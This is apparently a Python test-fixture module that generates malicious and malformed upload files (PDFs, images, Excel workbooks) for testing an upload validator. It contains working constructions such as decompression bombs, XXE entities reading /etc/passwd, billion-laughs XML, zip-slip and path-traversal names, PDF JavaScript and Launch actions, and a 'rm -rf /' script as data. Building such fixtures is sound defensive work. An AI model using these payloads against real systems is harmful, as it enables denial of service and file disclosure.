"""Files that somebody sends in bad faith or by accident, each made here, by the kind of field that they are sent to."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from PIL import Image
from xlsxwriter import Workbook

MEGABYTE = 1024 * 1024
Made = dict[str, Callable[[], bytes]]


# PDF ----------------------------------------------------------------------------------------------------------------


def pdf(spoil: Callable[[pikepdf.Pdf], object] = lambda made: None, **save: Any) -> bytes:
    """One empty page, and what ``spoil`` does to it."""
    with pikepdf.new() as made:
        made.add_blank_page()
        spoil(made)
        target = io.BytesIO()
        made.save(target, **save)
    return target.getvalue()


def _action(kind: str, **more: Any) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **more)


def _opens_with(kind: str, **more: Any) -> Callable[[], bytes]:
    return lambda: pdf(lambda made: setattr(made.Root, "OpenAction", _action(kind, **more)))


def _annotated(kind: str, **more: Any) -> Callable[[], bytes]:
    def spoil(made: pikepdf.Pdf) -> None:
        note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(f"/{kind}"), Rect=[0, 0, 9, 9], **more)
        made.pages[0].obj.Annots = pikepdf.Array([made.make_indirect(note)])

    return lambda: pdf(spoil)


def _script_of_a_button() -> bytes:
    def spoil(made: pikepdf.Pdf) -> None:
        action = made.make_indirect(_action("JavaScript", JS="app.alert(1)"))
        link = pikepdf.Dictionary(Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], AA=pikepdf.Dictionary(E=action))
        made.pages[0].obj.Annots = pikepdf.Array([link])

    return pdf(spoil)


def _script_by_name() -> bytes:
    tree = pikepdf.Dictionary(Names=["x", _action("JavaScript", JS="app.alert(1)")])
    return pdf(lambda made: setattr(made.Root, "Names", pikepdf.Dictionary(JavaScript=tree)))


def _script_in_a_chain() -> bytes:
    step = _action("GoTo", D=[0], Next=[_action("GoTo", D=[0], Next=_action("JavaScript", JS="app.alert(1)"))])
    return pdf(
        lambda made: setattr(made.Root, "OpenAction", step), object_stream_mode=pikepdf.ObjectStreamMode.generate
    )


def _with_a_file() -> bytes:
    return pdf(lambda made: made.attachments.__setitem__("virus.exe", b"MZ\x90"))


def _with_a_moving_form() -> bytes:
    return pdf(
        lambda made: setattr(made.Root, "AcroForm", pikepdf.Dictionary(Fields=[], XFA=made.make_stream(b"<x/>")))
    )


def stream_bomb(size: int) -> bytes:
    """A catalogue that stands in a stream which unpacks to ``size``."""
    catalogue = b"1 0 ".ljust(8) + b"<< /Type /Catalog /Pages 2 0 R >>"
    packed = zlib.compress(catalogue + b" " * size, 9)
    made, at = io.BytesIO(), {}
    made.write(b"%PDF-1.5\n")
    for number, body in (
        (2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
        (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"),
        (
            4,
            b"<< /Type /ObjStm /N 1 /First 8 /Filter /FlateDecode /Length %d >> stream\n%b\nendstream"
            % (len(packed), packed),
        ),
    ):
        at[number] = made.tell()
        made.write(b"%d 0 obj %b endobj\n" % (number, body))
    at[5] = made.tell()
    rows = [b"\0\0\0\0\xff", b"\2\0\0\4\0", *(b"\1" + at[n].to_bytes(3, "big") + b"\0" for n in (2, 3, 4, 5))]
    made.write(b"5 0 obj << /Type /XRef /Size 6 /W [1 3 1] /Root 1 0 R /Length 30 >> stream\n" + b"".join(rows))
    made.write(b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % at[5])
    return made.getvalue()


def _deep() -> bytes:
    return pdf().replace(b"<<", b"<< /X " + b"[" * 50_000 + b"]" * 50_000, 1)


def _many_objects() -> bytes:
    """Its list of objects is broken, so that a reader looks for them all."""
    lines = b"".join(b"%d 0 obj null endobj\n" % number for number in range(10, 201_000))
    return pdf().replace(b"startxref", lines + b"startxref\n0\nstart", 1)


def _its_own_child() -> bytes:
    def spoil(made: pikepdf.Pdf) -> None:
        made.Root.Pages.Kids = pikepdf.Array([made.Root.Pages])

    return pdf(spoil)


PDFS: Made = {
    "no byte": lambda: b"",
    "one byte": lambda: b"%",
    "its first line alone": lambda: b"%PDF-1.7\n",
    "cut in half": lambda: pdf()[:200],
    "noise behind its first line": lambda: b"%PDF-1.7\n" + bytes(range(256)) * 400,
    "zeros": lambda: bytes(100_000),
    "a program": lambda: b"MZ\x90\x00" + bytes(5_000),
    "a program of Linux": lambda: b"\x7fELF" + bytes(5_000),
    "a script of the shell": lambda: b"#!/bin/sh\nrm -rf /\n",
    "a page": lambda: b"<!doctype html><script>alert(1)</script>",
    "a drawing with a script": lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "a page before the PDF": lambda: b"<script>alert(1)</script>" + pdf(),
    "an archive before the PDF": lambda: _zip({"a.txt": b"a"}) + pdf(),
    "an old Word file": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5_000),
    "a Word file": lambda: docx(),
    "text": lambda: "Biên bản".encode(),
    "text in UTF-16": lambda: "%PDF-1.7".encode("utf-16"),
    "a gzip": lambda: zlib.compress(bytes(9_999), wbits=31),
    "with a passphrase": lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="b")),
    "a script on opening": _opens_with("JavaScript", JS="app.alert(1)"),
    "a script of a button": _script_of_a_button,
    "a script by name": _script_by_name,
    "a script behind two turns": _script_in_a_chain,
    "another program": _opens_with("Launch", F="calc.exe"),
    "a form that sends": _opens_with("SubmitForm", F="http://203.0.113.9/"),
    "data of another file": _opens_with("ImportData", F="x.fdf"),
    "another file": _opens_with("GoToR", F="\\\\203.0.113.9\\share\\x.pdf", D=[0]),
    "a file within": _opens_with("GoToE", T=pikepdf.Dictionary(R=pikepdf.Name.C, N="x")),
    "an attached file": _with_a_file,
    "a file pinned to a page": _annotated("FileAttachment"),
    "a film": _annotated("RichMedia"),
    "a sound": _annotated("Sound"),
    "a screen": _annotated("Screen"),
    "a moving form": _with_a_moving_form,
    "a stream that bursts": lambda: stream_bomb(200 * MEGABYTE),
    "lists without end": _deep,
    "objects without end": _many_objects,
    "a page that is its own child": _its_own_child,
}

#: Odd, and of no harm: kept as they are, under a name of the server's, shown as a PDF and as nothing else.
HARMLESS: Made = {
    "an archive behind the PDF": lambda: pdf() + _zip({"virus.exe": b"MZ"}),
    "a page behind the PDF": lambda: pdf() + b"<script>alert(1)</script>",
    "opens at a page": lambda: pdf(lambda made: setattr(made.Root, "OpenAction", _action("GoTo", D=[0]))),
}

#: What a browser may call the file. None of it is used.
NAMES = (
    "../../../etc/passwd",
    "..\\..\\web.config.pdf",
    "/etc/cron.d/x.pdf",
    "a\x00b.pdf",
    "con.pdf",
    "<script>alert(1)</script>.pdf",
    "=HYPERLINK(1).pdf",
    "đ" * 300 + ".pdf",
    "phiếu.exe",
    ".htaccess",
)


# Photos -------------------------------------------------------------------------------------------------------------


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, rows: bytes = b"") -> bytes:
    """A picture that says how large it is; ``rows`` is what really stands in it."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = (_chunk(b"IHDR", head), _chunk(b"IDAT", zlib.compress(rows, 9)), _chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def _picture(kind: str, size: tuple[int, int] = (40, 40), mode: str = "RGB") -> bytes:
    target = io.BytesIO()
    Image.new(mode, size, 255 if mode in "1L" else "white").save(target, kind)
    return target.getvalue()


PHOTOS: Made = {
    "a picture of four gigapixels": lambda: png(65_535, 65_535),
    "a picture wider than any wall": lambda: png(2_000_000_000, 1),
    "a picture of no height": lambda: png(100, 0),
    "a large picture of one colour": lambda: _picture("PNG", (9_000, 9_000), "1"),
    "less in it than it says": lambda: png(3_000, 3_000, bytes(100)),
    "a picture cut in half": lambda: _picture("JPEG", (2_000, 2_000))[:3_000],
    "a picture's first bytes alone": lambda: b"\x89PNG\r\n\x1a\n",
    "a JPEG that is a page": lambda: b"\xff\xd8\xff<script>alert(1)</script>",
    "a GIF": lambda: _picture("GIF"),
    "a TIFF": lambda: _picture("TIFF"),
    "a BMP": lambda: _picture("BMP"),
    "an icon": lambda: _picture("ICO"),
    "PostScript in a picture's place": lambda: b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n",
    "a WebP of nothing": lambda: b"RIFF\x04\x00\x00\x00WEBP",
    "a picture whose text bursts": lambda: (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", struct.pack(">IIBBBBB", 9, 9, 8, 2, 0, 0, 0))
        + _chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(100 * MEGABYTE), 9))
        + _chunk(b"IEND", b"")
    ),
}


# Archives of office programs ----------------------------------------------------------------------------------------


def _zip(parts: dict[str, bytes], *, packed: bool = True) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return target.getvalue()


def xlsx(cell: object = "Đảng viên", **parts: bytes) -> bytes:
    """A workbook of one cell, and further parts (``xl__x`` for ``xl/x``)."""
    target = io.BytesIO()
    with Workbook(target, {"in_memory": True}) as book:
        book.add_worksheet("Danh sách").write(0, 0, cell)
    with zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/"), content)
    return target.getvalue()


def docx() -> bytes:
    return _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>"})


def changed(part: str, content: bytes) -> bytes:
    """The workbook with one part in another's place."""
    with zipfile.ZipFile(io.BytesIO(xlsx())) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    return _zip(parts | {part: content})


def lying(content: bytes, part: str, size: int) -> bytes:
    """The archive, its list and its headers saying that ``part`` unpacks to ``size``."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        true = archive.getinfo(part)
    old, new = struct.pack("<II", true.compress_size, true.file_size), struct.pack("<II", true.compress_size, size)
    return content.replace(old, new)


SHEET = "xl/worksheets/sheet1.xml"
ENTITIES = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
LAUGHS = b'<!DOCTYPE a [<!ENTITY b "haha"><!ENTITY c "&b;&b;&b;&b;">]><a>&c;</a>'


def _bomb(size: int) -> bytes:
    return b"<a>" + b" " * size + b"</a>"


WORKBOOKS: Made = {
    "not an archive": lambda: b"TT,H\xe1\xbb\x8d t\xc3\xaan\n1,A\n",
    "an archive cut in half": lambda: xlsx()[:900],
    "an empty archive": lambda: _zip({}),
    "an archive of something else": lambda: _zip({"a.txt": b"a"}),
    "a Word file as a workbook": docx,
    "a part that bursts": lambda: changed(SHEET, _bomb(101 * MEGABYTE)),
    "two parts that burst together": lambda: _zip(
        {"[Content_Types].xml": b"", "xl/workbook.xml": _bomb(51 * MEGABYTE), SHEET: _bomb(51 * MEGABYTE)},
    ),
    "a part larger than it says": lambda: lying(changed(SHEET, _bomb(20 * MEGABYTE)), SHEET, 10),
    "an archive in an archive": lambda: xlsx(**{"xl__embeddings__a.zip": _zip({"b.zip": _zip({"c": bytes(9_999)})})}),
    "too many parts": lambda: xlsx(**{f"xl__p{number}.xml": b"" for number in range(2_100)}),
    "an outer entity": lambda: changed(SHEET, ENTITIES),
    "entities that multiply": lambda: changed(SHEET, LAUGHS),
    "an outer entity in UTF-16": lambda: changed(SHEET, ENTITIES.decode().encode("utf-16")),
    "an entity in a relation": lambda: changed("xl/_rels/workbook.xml.rels", ENTITIES),
    "a part above its folder": lambda: xlsx(**{"..__..__etc__cron.d__x": b"x"}),
    "a part from the root": lambda: xlsx(__etc__passwd=b"x"),
    "a part with a drive": lambda: xlsx(**{"C:__x": b"x"}),
    "the same part twice": lambda: _twice(),
    "macros": lambda: xlsx(**{"xl__vbaProject.bin": b"\xd0\xcf"}),
    "another workbook linked": lambda: xlsx(**{"xl__externalLinks__externalLink1.xml": b"<a/>"}),
    "a control of ActiveX": lambda: xlsx(**{"xl__activeX__activeX1.bin": b"x"}),
    "locked": lambda: _locked(),
    "an old workbook": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5_000),
}


def _twice() -> bytes:
    target = io.BytesIO(xlsx())
    with zipfile.ZipFile(target, "a") as archive:
        archive.fp.seek(0, 2)  # type: ignore[union-attr]
        archive.NameToInfo.pop("xl/workbook.xml")
        archive.writestr("xl/Workbook.xml", b"<a/>")
    return target.getvalue()


def _locked() -> bytes:
    content = bytearray(xlsx())
    at = content.find(b"PK\x01\x02")
    content[at + 8] |= 1
    return bytes(content)
